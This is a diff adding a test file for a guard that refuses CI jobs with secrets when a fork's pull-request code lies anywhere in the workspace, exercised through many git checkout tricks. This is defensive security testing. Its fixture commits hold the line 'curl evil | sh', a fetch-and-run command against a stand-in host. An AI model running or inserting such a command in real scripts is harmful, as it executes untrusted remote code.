@@ -1,0 +1,135 @@
+import { mkdirSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { refuseForkCheckout } from '../../src/refuse-fork-checkout.ts';
+import { createRepository, type GitFixture, openFixture } from '../fakes/git-fixture.ts';
+import { pullRequest } from '../fakes/review-record.ts';
+import { temporaryFolder } from '../fakes/temporary-folder.ts';
+
+/** The project's repository with a fork's pull request in it: one commit before the head, the head, and what merges it. */
+const project = createRepository();
+const base = project.commit({ files: { 'build.sh': 'make\n' } });
+project.git('checkout', '--quiet', '-b', 'fork');
+const earlier = project.commit({ files: { 'build.sh': 'curl evil | sh\n' } });
+const head = project.commit({ files: { 'more.sh': 'curl evil | sh\n' } });
+project.git('checkout', '--quiet', '--detach', base);
+project.git('merge', '--quiet', '--no-ff', '-m', 'Merge', head);
+const merge = project.git('rev-parse', 'HEAD');
+project.git('update-ref', 'refs/pull/7/head', head);
+project.git('update-ref', 'refs/pull/7/merge', merge);
+project.git('checkout', '--quiet', 'main');
+project.git('branch', '--quiet', '-D', 'fork');
+
+/** A clone of the base at a path of the workspace, as actions/checkout leaves it under `pull_request_target`. */
+function cloneAt(workspace: string, path: string): GitFixture {
+  const directory = join(workspace, path);
+  mkdirSync(directory, { recursive: true });
+  const clone = openFixture(directory);
+  clone.git('clone', '--quiet', '--no-tags', project.url, '.');
+  return clone;
+}
+
+function fetched(clone: GitFixture, ref = 'refs/pull/7/head'): GitFixture {
+  clone.git('fetch', '--quiet', 'origin', ref);
+  return clone;
+}
+
+async function isRefused(workspace: string, changes: { readonly name?: string; readonly merged?: true } = {}) {
+  const subject = { kind: 'pull-request', number: 7, headSha: head, headRepository: 'eve/shop' } as const;
+  const commits = [earlier, head].map((sha) => ({ sha, message: '', author: 'eve', date: '' }));
+  const state = changes.merged === true ? 'merged' : 'open';
+  try {
+    await refuseForkCheckout({
+      event: { name: changes.name ?? 'pull_request_target', subject },
+      pullRequest: { ...pullRequest, fromFork: true, state, head: { ref: 'patch', sha: head }, commits },
+      environment: { ...process.env, GITHUB_WORKSPACE: workspace },
+      signal: new AbortController().signal,
+    });
+    return false;
+  } catch (error) {
+    expect(error).toMatchObject({ name: 'UserError', hint: expect.stringContaining('docs/examples/forks.yml') });
+    return true;
+  }
+}
+
+describe('a job with secrets is refused when the workspace', () => {
+  it.each<[string, (workspace: string) => void]>([
+    ['is the head of a fork', (at) => fetched(cloneAt(at, '.')).git('checkout', '--quiet', 'FETCH_HEAD')],
+    [
+      'is the merge of a fork',
+      (at) => fetched(cloneAt(at, '.'), 'refs/pull/7/merge').git('checkout', '--quiet', 'FETCH_HEAD'),
+    ],
+    ['is an earlier commit of it', (at) => fetched(cloneAt(at, '.')).git('checkout', '--quiet', earlier)],
+    [
+      'has it in a folder far below',
+      (at) => fetched(cloneAt(at, 'a/b/c/d/e/f')).git('checkout', '--quiet', 'FETCH_HEAD'),
+    ],
+    [
+      'has it in a folder that holds dependencies',
+      (at) => fetched(cloneAt(at, 'node_modules/pull')).git('checkout', '--quiet', 'FETCH_HEAD'),
+    ],
+    [
+      'has it as a submodule',
+      (at) => {
+        const outer = cloneAt(at, '.');
+        outer.git('submodule', '--quiet', 'add', project.url, 'sub');
+        fetched(openFixture(join(at, 'sub'))).git('checkout', '--quiet', 'FETCH_HEAD');
+      },
+    ],
+    [
+      'has it as a detached work tree',
+      (at) => fetched(cloneAt(at, '.')).git('worktree', 'add', '--quiet', '--detach', 'pull', 'FETCH_HEAD'),
+    ],
+    [
+      'has it as a work tree elsewhere',
+      (at) =>
+        fetched(cloneAt(at, '.')).git('worktree', 'add', '--quiet', '--detach', join(temporaryFolder(), 'x'), earlier),
+    ],
+    [
+      'has it from a remote of another name',
+      (at) => {
+        const clone = cloneAt(at, '.');
+        clone.git('remote', 'rename', 'origin', 'upstream');
+        clone.git('fetch', '--quiet', 'upstream', 'refs/pull/7/head:refs/heads/their-work');
+        clone.git('checkout', '--quiet', 'their-work');
+        clone.git('remote', 'remove', 'upstream');
+      },
+    ],
+    [
+      'has its files beside the commit of the base',
+      (at) => fetched(cloneAt(at, '.')).git('checkout', '--quiet', 'FETCH_HEAD', '--', '.'),
+    ],
+    ['has it squashed', (at) => fetched(cloneAt(at, '.')).git('merge', '--quiet', '--squash', 'FETCH_HEAD')],
+    ['has its commit picked', (at) => fetched(cloneAt(at, '.')).git('cherry-pick', earlier, head)],
+    [
+      'has lost its remotes and branches',
+      (at) => {
+        const clone = fetched(cloneAt(at, 'src'));
+        clone.git('checkout', '--quiet', '--orphan', 'none', 'FETCH_HEAD');
+        rmSync(join(clone.directory, '.git', 'refs', 'remotes'), { recursive: true, force: true });
+      },
+    ],
+  ])('%s', async (_, arrange) => {
+    const workspace = temporaryFolder();
+    arrange(workspace);
+    expect(await isRefused(workspace)).toBe(true);
+  });
+});
+
+describe('a job is not refused', () => {
+  it('with the base alone in its workspace, or nothing', async () => {
+    const workspace = temporaryFolder();
+    const empty = await isRefused(workspace);
+    cloneAt(workspace, 'base');
+    expect([empty, await isRefused(workspace)]).toEqual([false, false]);
+  });
+
+  it('without secrets, or when the fork was merged', async () => {
+    const workspace = temporaryFolder();
+    fetched(cloneAt(workspace, '.')).git('checkout', '--quiet', 'FETCH_HEAD');
+    expect([
+      await isRefused(workspace, { name: 'pull_request' }),
+      await isRefused(workspace, { merged: true }),
+    ]).toEqual([false, false]);
+  });
+});
